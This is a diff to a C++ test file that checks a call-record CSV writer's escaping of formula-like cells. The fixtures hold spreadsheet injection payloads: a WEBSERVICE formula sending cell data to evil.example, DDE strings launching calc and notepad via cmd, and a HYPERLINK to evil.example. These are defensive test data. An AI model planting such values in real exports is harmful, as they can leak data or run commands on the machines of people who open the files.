@@ -31,7 +31,8 @@ CallRecord hostile_call() {
     r.carrier_cost = Decimal::parse("-0.01");
     r.total_cost = Decimal::parse("-0.03");  // a refund
     r.recording_url = "-https://x.example/r.mp3";
-    return r;
+    r.summary = "=WEBSERVICE(\"https://evil.example/\"&A1)";
+    return r;  // (started_at, ended_at, end_reason and currency: empty)
 }
 
 std::string csv_row(const CallRecord& record, WriterOptions options = {}) {
@@ -50,7 +51,7 @@ TEST_CASE("CSV: text cells starting with = + - @ tab or CR get a leading quote a
           "main,autocalls,'-1,,outbound,unknown,'@SUM(1+1)*cmd|' /C calc'!A0,,,,"
           "\"'=HYPERLINK(\"\"https://evil.example\"\",\"\"click\"\")\",'\tlabel,7,'+1+cmd|' /C notepad'!A0,,"
           "'+15551234567,42,2025-08-04T12:00:00Z,2025-08-04T12:00:00Z,\"'\r=1+1\",{},,,-0.01,-0.03,"
-          "'-https://x.example/r.mp3,false\r\n");
+          "'-https://x.example/r.mp3,false,,,,\"'=WEBSERVICE(\"\"https://evil.example/\"\"&A1)\",\r\n");
 }
 
 TEST_CASE("CSV: keep_formulas writes every cell as it is") {
@@ -58,7 +59,7 @@ TEST_CASE("CSV: keep_formulas writes every cell as it is") {
           "main,autocalls,-1,,outbound,unknown,@SUM(1+1)*cmd|' /C calc'!A0,,,,"
           "\"=HYPERLINK(\"\"https://evil.example\"\",\"\"click\"\")\",\tlabel,7,+1+cmd|' /C notepad'!A0,,"
           "+15551234567,42,2025-08-04T12:00:00Z,2025-08-04T12:00:00Z,\"\r=1+1\",{},,,-0.01,-0.03,"
-          "-https://x.example/r.mp3,false\r\n");
+          "-https://x.example/r.mp3,false,,,,\"=WEBSERVICE(\"\"https://evil.example/\"\"&A1)\",\r\n");
 }
 
 TEST_CASE("Table: C1 controls DEL and C0 controls are shown as spaces") {
